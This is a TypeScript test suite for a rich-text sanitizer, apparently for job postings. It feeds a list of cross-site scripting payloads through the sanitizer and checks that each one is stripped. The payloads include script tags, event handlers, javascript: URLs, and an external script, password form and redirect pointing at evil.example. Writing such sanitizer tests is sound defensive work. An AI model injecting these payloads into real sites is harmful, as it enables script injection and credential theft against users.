import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toPlainText, toRichText } from './rich-text.js';

const ATTACKS = [
  '<script>alert(1)</script>',
  '<p>x</p><script src="//evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<p><img src="javascript:alert(1)"></p>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name=p type=password><button>go</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<p>"><script>alert(1)</script>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<p id="submit" class="fixed" name="x">x</p>',
];

/** Only these may be left standing, with only these attributes. */
function onlySafe(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>/g))
    expect(tag).toMatch(
      /^<\/?(?:p|h[2-4]|ul|ol|li|strong|em|b|i|blockquote|code|pre)>$|^<(?:br|hr) ?\/>$|^<\/a>$|^<a(?: href="(?:https?:|mailto:)[^"<>]*")?(?: rel="nofollow noopener ugc")?>$/,
    );
}

describe('rich text', () => {
  it.each(ATTACKS)('lets nothing that runs through: %s', (attack) => {
    for (const html of [toRichText(attack), toRichText(`<p>Work</p>${attack}<ul><li>x</li></ul>`)]) {
      onlySafe(html);
      expect(html).not.toMatch(/alert\(1\)<\/script|<script|onerror=|javascript:/i);
    }
  });

  it('leaves only allowed elements whatever comes in, and changes nothing the second time', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...ATTACKS,
        '<p>',
        '</p>',
        '<li>',
        '<b>',
        '</b>',
        '<h1>',
        '&lt;',
        '&amp;',
        '<',
        '>',
        '"',
      ),
      fc.string({ maxLength: 12 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = toRichText(pieces.join(''));
        onlySafe(once);
        // A text without blocks is wrapped the first time; from then on it stands.
        expect(toRichText(toRichText(once))).toBe(toRichText(once));
      }),
      { numRuns: 300 },
    );
  });

  it('keeps the text elements of a posting', () => {
    const html =
      '<h2>Tasks</h2><ul><li>Build <strong>things</strong></li></ul><p>Ask <a href="mailto:hr@example.com">us</a>.</p><hr />';
    expect(toRichText(html)).toBe(
      html.replace('"mailto:hr@example.com"', '"mailto:hr@example.com" rel="nofollow noopener ugc"'),
    );
  });

  it('folds headings that a posting does not have into those it has', () => {
    expect(toRichText('<h1>A</h1><h5>B</h5><div>C</div>')).toBe('<h2>A</h2><h4>B</h4><p>C</p>');
  });

  it('makes paragraphs of plain text and keeps its line breaks', () => {
    expect(toRichText('One\ntwo\n\nThree < four & five')).toBe(
      '<p>One<br />two</p>\n<p>Three &lt; four &amp; five</p>',
    );
  });

  it('drops empty blocks', () => {
    expect(toRichText('<p>&nbsp;</p><p>Text</p><ul><li></li><li>One</li></ul>')).toBe(
      '<p>Text</p><ul><li>One</li></ul>',
    );
  });
});

describe('plain text', () => {
  it('puts blocks on lines of their own and items behind hyphens', () => {
    expect(toPlainText('<h2>Tasks</h2><ul><li>Build</li><li>Test</li></ul><p>One<br />two</p>')).toBe(
      'Tasks\n\n- Build\n- Test\n\nOne\ntwo',
    );
  });

  it('decodes entities', () => {
    expect(toPlainText('<p>R&amp;D &lt;3 &#x41;&#66; &quot;q&quot;</p>')).toBe('R&D <3 AB "q"');
  });
});
